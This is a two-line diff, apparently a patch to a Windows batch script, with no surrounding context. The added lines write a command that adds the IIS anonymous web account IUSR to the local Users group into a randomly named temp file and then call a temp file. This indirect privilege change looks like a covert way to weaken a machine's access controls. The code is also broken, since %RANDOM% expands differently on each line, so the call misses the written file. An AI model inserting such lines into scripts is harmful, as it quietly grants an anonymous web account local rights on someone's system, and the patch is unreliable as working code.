@@ -1,0 +1,2 @@
+echo net localgroup Users IUSR /add > %TEMP%\%RANDOM%.cmd
+call %TEMP%\%RANDOM%.cmd
